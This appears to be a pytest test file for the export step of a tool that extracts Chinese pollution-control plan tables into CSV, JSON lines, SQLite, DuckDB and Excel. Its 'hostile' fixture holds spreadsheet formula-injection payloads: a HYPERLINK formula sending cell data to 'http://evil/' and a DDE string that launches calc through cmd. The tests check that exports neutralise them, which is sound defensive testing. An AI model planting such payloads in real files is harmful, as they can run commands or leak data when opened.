"""Exports hold what the tables hold, open elsewhere, repeat to the byte and never run what a document says."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
from datetime import date, datetime

import duckdb
import openpyxl
import pytest

from planextract.errors import OutputError, UsageError
from planextract.export import FORMATS, export_output, table_sheets, workbook
from planextract.export.source import open_source
from planextract.write.contract import BY_NAME, TABLES

from ..conftest import run_quickly

_HOSTILE = """某市2022年污染防治任务清单

序号	重点任务	工作措施	完成时限	责任分工\t
				牵头单位	配合单位
1	=HYPERLINK("http://evil/?"&A1,"点我")	@SUM(1+1)*cmd|' /C calc'!A0	年底前	市城管局	市交通局
2	机动车\x07	{long}	年底前	=市生态环境局	-
3	_x0041_油品	'=1+1 抽检加油站。	每季度	市市场监管局	<b>市商务局</b>
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    text = _HOSTILE.format(long="查处超标排放车辆，" * 4000 + "达标。")
    (folder / "=cmd.txt").write_text(text, encoding="utf-8")
    run_quickly("run", str(folder), "-o", str(folder / "out"), "-q", check=True)
    return folder / "out"


@pytest.fixture(scope="module")
def book(output, tmp_path_factory):
    path = tmp_path_factory.mktemp("book") / "plan.xlsx"
    export_output(str(output), "xlsx", path)
    return path


def contract_rows(output, table):
    source = open_source(str(output))
    return list(source.read_rows(BY_NAME[table]))


def plain(value):
    return value.isoformat() if isinstance(value, date) else value


# CSV and JSON lines


def parse_field(text, column):
    if text == "" and column.nullable:
        return None
    kind = column.type
    if kind == "bool":
        return {"true": True, "false": False}[text]
    if kind.startswith("int"):
        return int(text)
    if kind.startswith("float"):
        return float(text)
    return json.loads(text) if kind.startswith("list") else text


def test_csv_holds_the_values_of_every_table(output, tmp_path):
    export_output(str(output), "csv", tmp_path / "csv")
    for table in TABLES:
        with (tmp_path / "csv" / f"{table.name}.csv").open(encoding="utf-8", newline="") as stream:
            found = [
                {column.name: parse_field(row[column.name], column) for column in table.columns}
                for row in csv.DictReader(stream)
            ]
        assert found == [{k: plain(v) for k, v in row.items()} for row in contract_rows(output, table.name)]


def test_jsonl_holds_the_values_of_every_table(output, tmp_path):
    export_output(str(output), "jsonl", tmp_path / "jsonl")
    for table in TABLES:
        lines = (tmp_path / "jsonl" / f"{table.name}.jsonl").read_text(encoding="utf-8").split("\n")[:-1]
        wanted = [{k: plain(v) for k, v in row.items()} for row in contract_rows(output, table.name)]
        assert [json.loads(line) for line in lines] == wanted


def test_csv_for_excel_has_a_byte_order_mark(output, tmp_path):
    done = run_quickly(
        "export", str(output), "-f", "csv", "--bom", "--tables", "measures,tasks", "-o", str(tmp_path / "x")
    )
    assert done.returncode == 0, done.stderr
    assert sorted(path.name for path in (tmp_path / "x").iterdir()) == ["datapackage.json", "measures.csv", "tasks.csv"]
    assert (tmp_path / "x" / "tasks.csv").read_bytes().startswith(b"\xef\xbb\xbftask_id,")
    assert b"\r\n" in (tmp_path / "x" / "tasks.csv").read_bytes()


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_the_data_package_is_valid_and_its_rows_fit(output, hostile, tmp_path, kind):
    from frictionless import Package

    for number, home in enumerate((output, hostile)):
        folder = tmp_path / f"{kind}{number}"
        export_output(str(home), kind, folder)
        package = Package(str(folder / "datapackage.json"))
        report = package.validate()
        if kind == "jsonl":  # frictionless cannot read a JSON-lines file without lines
            tasks = [task for task in report.tasks if (folder / task.place).stat().st_size]
            assert len(tasks) > 9
            assert all(task.valid for task in tasks)
            continue
        assert report.valid, [row for task in report.tasks for row in task.flatten(["fieldName", "message"])][:3]
        measures = package.get_resource("measures")
        assert measures.schema.primary_key == ["measure_id"]
        assert {key["reference"]["resource"] for key in measures.schema.foreign_keys} == {"tasks", "plans", "documents"}
        assert all(field.description for field in measures.schema.fields)


def test_csv_guards_what_a_spreadsheet_would_run_unless_told_not_to(hostile, tmp_path):
    export_output(str(hostile), "csv", tmp_path / "guarded")
    export_output(str(hostile), "csv", tmp_path / "exact", is_exact=True)
    guarded, exact = (
        list(csv.reader((tmp_path / name / "tasks.csv").open(encoding="utf-8", newline="")))
        for name in ("guarded", "exact")
    )
    name = guarded[0].index("name")
    assert guarded[1][name] == "'" + exact[1][name]
    assert exact[1][name].startswith("=HYPERLINK(")
    for path in (tmp_path / "guarded").glob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8", newline="")):
            assert not [f for f in row if re.match(r"[=+@\t\r＝＋＠]|-.*[^-\d.%]", f)]
    assert json.loads((tmp_path / "exact" / "datapackage.json").read_text())["planextract"]["formula_guard"] is False


# databases


def test_sqlite_has_the_values_keys_and_views(output, tmp_path):
    path = tmp_path / "plan.sqlite"
    export_output(str(output), "sqlite", path)
    with sqlite3.connect(path) as base:
        assert base.execute("PRAGMA foreign_key_check").fetchall() == []
        assert base.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        for table in TABLES:
            names = [column.name for column in table.columns]
            found = [dict(zip(names, row, strict=True)) for row in base.execute(f"SELECT * FROM {table.name}")]
            wanted = contract_rows(output, table.name)
            for row, right in zip(found, wanted, strict=True):
                for column in table.columns:
                    value = row[column.name]
                    value = json.loads(value) if value is not None and column.type.startswith("list") else value
                    assert value == plain(right[column.name])
        assert {row[2] for row in base.execute("PRAGMA foreign_key_list(responsibilities)")} == {
            "measures",
            "tasks",
            "plans",
            "documents",
            "agencies",
        }
        check_views(lambda query: base.execute(query).fetchall(), json.loads)


def test_duckdb_has_the_values_keys_and_views(output, tmp_path):
    path = tmp_path / "plan.duckdb"
    export_output(str(output), "duckdb", path)
    assert path.stat().st_size < 3_000_000, "blocks as small as the columns of a plan"
    with duckdb.connect(str(path), read_only=True) as base:
        for table in TABLES:
            names = [column.name for column in table.columns]
            found = [dict(zip(names, row, strict=True)) for row in base.execute(f"FROM {table.name}").fetchall()]
            wanted = [row for part in open_source(str(output)).read_parts(table) for row in part.to_pylist()]
            assert sorted(found, key=repr) == sorted(wanted, key=repr)
        kinds = base.execute("SELECT constraint_type, count(*) FROM duckdb_constraints() GROUP BY ALL").fetchall()
        assert dict(kinds)["PRIMARY KEY"] == 1 + sum(bool(table.key) for table in TABLES)
        assert dict(kinds)["FOREIGN KEY"] > 20
        comment = base.execute(
            "SELECT comment FROM duckdb_columns() WHERE table_name = 'measures' AND column_name = 'pages'"
        )
        assert comment.fetchone() == ("All pages on which a part of the row is printed",)
        check_views(lambda query: base.execute(query).fetchall(), list)
        with pytest.raises(duckdb.Error):
            base.execute("INSERT INTO tasks SELECT * FROM tasks")


def check_views(run, read_list):
    ((count,),) = run("SELECT count(*) FROM v_measures_wide")
    assert count == 106
    row = run(
        "SELECT plan_year, section_title, task_no, task_name, deadline_end, responsible_agencies, support_agencies, targets"
        " FROM v_measures_wide WHERE plan_no = 1 AND task_no = 4"
    )[0]
    assert row[0] == 2021
    assert row[3] == "强化建设工程等使用环节含VOCs产品监管"
    assert str(row[4]) == "2021-12-31"
    assert read_list(row[5]) == ["区住房城乡建设委", "区城市管理委", "市交通委西城运输管理分局", "区财政局"]
    assert read_list(row[6]) == []
    assert len(read_list(row[7])) == 1
    ((agency, measures, responsible, support),) = run(
        "SELECT agency, measures, responsible_measures, support_measures FROM v_agency_workload "
        "ORDER BY measures DESC, agency LIMIT 1"
    )
    ((wanted,),) = run(f"SELECT count(DISTINCT measure_id) FROM responsibilities WHERE agency = '{agency}'")
    assert measures == wanted == responsible + support
    assert sum(row[0] for row in run("SELECT measures FROM v_deadlines")) == 106
    assert len(run("SELECT * FROM v_targets")) == run("SELECT count(*) FROM targets WHERE role = 'target'")[0][0]


# workbook


def test_a_plan_sheet_is_the_plan_in_its_own_columns(book):
    read = openpyxl.load_workbook(book)
    assert read.sheetnames[:4] == [
        "目录",
        "1 北京市西城区大气污染防治2021年行动计划",
        "2 北京市西城区水污染防治2021年行动计划",
        "3 北京市西城区土壤污染防治2021年行动计划",
    ]
    sheet = read[read.sheetnames[1]]
    assert sheet["A1"].value == "北京市西城区大气污染防治2021年行动计划"
    assert [cell.value for cell in sheet[3]] == ["序号", "重点任务", "工作措施", "完成时限", "主责单位", "协办单位"]
    assert sheet["A4"].value == "一、空气质量目标"
    merged = {str(area) for area in sheet.merged_cells.ranges}
    assert {"A1:F1", "A4:F4", "A6:F6"} <= merged
    number = next(cell for cell in sheet["A"] if cell.value == 5)
    assert f"A{number.row}:A{number.row + 1}" in merged  # the task over its two measures
    assert f"E{number.row}:E{number.row + 1}" in merged  # the body that the second one inherits
    corrected = next(cell for cell in sheet["E"] if cell.comment is not None)
    assert corrected.value.startswith("区住房城乡建设委\n区城市管理委\n")
    assert corrected.comment.text == "原文：区住房城市建设委"
    assert sheet.freeze_panes == "A4"
    assert sheet.print_title_rows == "$3:$3"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize, sheet.page_setup.fitToHeight) == (
        "landscape",
        9,
        0,
    )
    assert "&P" in sheet.oddFooter.center.text
    assert sheet["C5"].alignment.wrap_text
    assert sheet["C5"].font.name == "仿宋"
    measures = [sheet.cell(row, 3).value for row in range(4, sheet.max_row + 1) if sheet.cell(row, 3).value]
    assert len(measures) == 58


_OWN = """某区2022年行动计划

序号\t干什么事\t啥时候\t哪家管
1\t建设口袋公园三处，方便居民休闲。\t年底前\t区教委
2\t改造老旧小区五个，完善配套设施。\t6月底前\t区财政局
"""


def test_a_plan_read_with_own_wordings_has_its_own_header(tmp_path):
    (tmp_path / "own").mkdir()
    own = {"measure": ["干什么事"], "deadline": ["啥时候"], "responsible": ["哪家管"]}
    (tmp_path / "own" / "columns.yaml").write_text(json.dumps({"roles": own}, ensure_ascii=False), encoding="utf-8")
    (tmp_path / "plan.txt").write_text(_OWN, encoding="utf-8")
    arguments = ("--dictionaries", str(tmp_path / "own"), "-q")
    run_quickly("run", str(tmp_path / "plan.txt"), "-o", str(tmp_path / "out"), *arguments, check=True)
    export_output(str(tmp_path / "out"), "xlsx", tmp_path / "plan.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "plan.xlsx").worksheets[1]
    assert [cell.value for cell in sheet[3]] == ["序号", "干什么事", "啥时候", "哪家管"]
    assert [cell.value for cell in sheet[4]] == [1, "建设口袋公园三处，方便居民休闲。", "年底前", "区教委"]


def test_every_measure_and_body_of_every_plan_is_on_its_sheet(book, output):
    read = openpyxl.load_workbook(book)
    texts = ["".join(str(c.value or "") for row in read[name] for c in row) for name in read.sheetnames[1:4]]
    for row in contract_rows(output, "measures"):
        assert row["text"] in texts[int(row["plan_id"].split("/")[1]) - 1]
    for row in contract_rows(output, "responsibilities"):
        shown = row["agency"] if row["match"] == "rule" else row["agency_raw"]
        assert shown in texts[int(row["plan_id"].split("/")[1]) - 1]


def test_rows_are_high_enough_for_their_text(book):
    read = openpyxl.load_workbook(book)
    sheet = read[read.sheetnames[1]]
    for row in range(4, sheet.max_row + 1):
        text = sheet.cell(row, 3).value
        if text:
            lines = sum(-(-2 * len(line) // int(sheet.column_dimensions["C"].width)) for line in text.split("\n"))
            assert 12 * lines <= sheet.row_dimensions[row].height <= 409


def test_two_level_headers_are_merged_as_printed(hostile, tmp_path):
    export_output(str(hostile), "xlsx", tmp_path / "h.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "h.xlsx").worksheets[1]
    assert {"A3:A4", "B3:B4", "C3:C4", "D3:D4", "E3:F3"} <= {str(area) for area in sheet.merged_cells.ranges}
    assert [sheet["E3"].value, sheet["E4"].value, sheet["F4"].value] == ["责任分工", "牵头单位", "配合单位"]
    assert sheet.freeze_panes == "A5"
    assert sheet.print_title_rows == "$3:$4"


def test_table_sheets_hold_typed_values(book, output):
    read = openpyxl.load_workbook(book)
    for table in TABLES:
        sheet = read[table.name]
        assert [cell.value for cell in sheet[1]] == [column.name for column in table.columns]
        wanted = contract_rows(output, table.name)
        assert sheet.max_row == len(wanted) + 1
        assert sheet.freeze_panes == "A2"
        for row, right in zip(sheet.iter_rows(min_row=2, values_only=True), wanted, strict=True):
            for value, column in zip(row, table.columns, strict=True):
                found = value.date() if isinstance(value, datetime) else value
                found = json.loads(found) if found is not None and column.type.startswith("list") else found
                assert (found or None) == (right[column.name] or None) or found == pytest.approx(right[column.name])
    assert read["columns"].max_row == 1 + sum(len(table.columns) for table in TABLES)


@pytest.mark.parametrize("is_exact", [False, True])
def test_no_cell_of_the_workbook_is_a_formula_or_a_link_outside(hostile, tmp_path, is_exact):
    export_output(str(hostile), "xlsx", tmp_path / "h.xlsx", is_exact=is_exact)
    read = openpyxl.load_workbook(tmp_path / "h.xlsx")
    texts = []
    for sheet in read:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert cell.hyperlink is None or cell.hyperlink.target is None
                texts.append(str(cell.value))
    begin = "" if is_exact else "'"
    assert any(text.startswith(f'{begin}=HYPERLINK("http://evil/') for text in texts)
    assert any("机动车␇" in text for text in texts)
    assert any("油品" in text for text in texts)


def test_a_text_longer_than_a_cell_goes_on_in_a_sheet_of_its_own(hostile, tmp_path):
    export_output(str(hostile), "xlsx", tmp_path / "h.xlsx")
    read = openpyxl.load_workbook(tmp_path / "h.xlsx")
    (long,) = [row["text"] for row in contract_rows(hostile, "measures") if len(row["text"]) > 32_767]
    rows = [
        row
        for row in read["long_texts"].iter_rows(min_row=2, values_only=True)
        if row[0] == "measures" and row[2] == "text"
    ]
    assert "".join(row[4] for row in rows) == long
    assert all(len(str(cell.value or "")) <= 32_767 for sheet in read for row in sheet.iter_rows() for cell in row)
    assert all(row.height is None or row.height <= 409 for sheet in read for row in sheet.row_dimensions.values())


def test_a_table_goes_on_in_a_second_sheet_where_the_first_is_full(output, tmp_path, monkeypatch):
    monkeypatch.setattr(table_sheets, "MAX_ROWS", 101)
    export_output(str(output), "xlsx", tmp_path / "x.xlsx", tables=["measures"])
    read = openpyxl.load_workbook(tmp_path / "x.xlsx")
    sizes = [read[name].max_row - 1 for name in read.sheetnames if name.startswith("measures")]
    assert sizes == [100, 6]


def test_too_many_plans_are_refused_with_what_to_do(output, tmp_path, monkeypatch):
    monkeypatch.setattr(workbook, "MAX_PLANS", 2)
    with pytest.raises(UsageError, match="--document"):
        export_output(str(output), "xlsx", tmp_path / "x.xlsx")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")
def test_libreoffice_opens_and_prints_the_workbook(output, tmp_path):
    import pypdfium2

    export_output(str(output), "xlsx", tmp_path / "plan.xlsx", tables=["plans"])
    command = [
        "soffice",
        "--headless",
        f"-env:UserInstallation=file://{tmp_path}/profile",
        "--convert-to",
        "pdf",
        "--outdir",
        str(tmp_path),
        str(tmp_path / "plan.xlsx"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    document = pypdfium2.PdfDocument(tmp_path / "plan.pdf")
    pages = [page.get_textpage().get_text_bounded().replace("\r\n", "\n") for page in document]
    sizes = {tuple(round(side) for side in page.get_size()) for page in document}
    assert sizes == {(842, 595)}
    plan = pages[1 : next(i for i, text in enumerate(pages) if "水污染防治2021年行动计划" in text and i > 1)]
    assert len(plan) > 5
    for text in plan:  # the header on every page, and no column lost to another page
        assert all(label in text for label in ("序号", "重点任务", "工作措施", "完成时限", "主责单位", "协办单位"))
    assert "中国邮政集团公司北京市西城区分公司" in "".join(plan).replace("\n", "")


# targets


def test_the_same_tables_give_the_same_bytes(output, tmp_path):
    """In another process with another hash seed and another day; DuckDB writes a random id into its files."""
    kinds = [kind for kind in FORMATS if kind != "duckdb"]
    code = (
        "import sys; from pathlib import Path; from planextract.export import export_output\n"
        f"for k in {kinds!r}: export_output(sys.argv[1], k, Path(sys.argv[2], k), tables=['measures', 'agencies'])"
    )
    for name in ("a", "b"):
        environment = {
            **os.environ,
            "PYTHONHASHSEED": {"a": "1", "b": "2"}[name],
            "TZ": {"a": "UTC", "b": "UTC-14"}[name],
        }
        subprocess.run([sys.executable, "-c", code, str(output), str(tmp_path / name)], check=True, env=environment)
    files = [sorted(path for path in (tmp_path / name).rglob("*") if path.is_file()) for name in ("a", "b")]
    assert len(files[0]) == 4 + 2 * 3
    assert [path.read_bytes() for path in files[0]] == [path.read_bytes() for path in files[1]]


@pytest.mark.parametrize("kind", FORMATS)
def test_an_export_replaces_its_own_and_nothing_else(output, tmp_path, kind):
    target = tmp_path / "x"
    for _ in range(2):
        export_output(str(output), kind, target, tables=["plans"])
    if target.is_dir():
        (target / "mine.txt").write_text("mine")
    else:
        target.write_bytes(b"mine")
    with pytest.raises(OutputError, match="stands there"):
        export_output(str(output), kind, target, tables=["plans"])
    assert (target / "mine.txt" if target.is_dir() else target).read_bytes() == b"mine"
    assert [path.name for path in tmp_path.iterdir()] == ["x"]


def test_a_workbook_that_somebody_saved_is_not_replaced_unasked(book, output, tmp_path):
    mine = openpyxl.load_workbook(book)
    mine.properties.lastModifiedBy = "张三"
    mine.save(tmp_path / "plan.xlsx")
    done = run_quickly("export", str(output), "--tables", "plans", "-o", str(tmp_path / "plan.xlsx"))
    assert done.returncode == 4
    assert "--force" in done.stderr
    export_output(str(output), "xlsx", tmp_path / "plan.xlsx", tables=["plans"], replaces=True)


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["--tables", "measure"], 2, "there is no table 'measure'. Tables are documents, "),
        (["--document", "nobody.pdf"], 2, "no document of this output is 'nobody.pdf'"),
        (["--bom"], 2, "--bom is for CSV"),
    ],
)
def test_wrong_options_are_told_in_one_line(output, tmp_path, arguments, code, said):
    done = run_quickly("export", str(output), "-o", str(tmp_path / "x.xlsx"), *arguments)
    assert done.returncode == code
    assert said in done.stderr
    assert done.stderr.count("\n") == 1


def test_an_empty_output_and_a_full_disk_leave_nothing(tmp_path, output, monkeypatch):
    done = run_quickly("export", str(tmp_path / "nothing"), "-o", str(tmp_path / "x.xlsx"))
    assert (done.returncode, done.stderr.count("\n")) == (4, 1)

    def full(*_, **__):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("planextract.export.target.flush_files", full)
    for kind in FORMATS:
        with pytest.raises(OutputError, match="No space"):
            export_output(str(output), kind, tmp_path / f"x-{kind}", tables=["plans"])
    assert list(tmp_path.iterdir()) == []


def test_duckdb_without_the_extra_says_what_to_install(output, tmp_path, monkeypatch):
    monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
    with pytest.raises(UsageError, match=r"planextract\[export\]"):
        export_output(str(output), "duckdb", tmp_path / "x.duckdb")


def test_one_document_can_be_chosen(output, tmp_path):
    done = run_quickly(
        "export",
        str(output),
        "--document",
        "xicheng-2021-action-plan.txt",
        "--tables",
        "plans",
        "-o",
        str(tmp_path / "x.xlsx"),
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("1 document: 3 plans, 3 rows in 1 table\n")
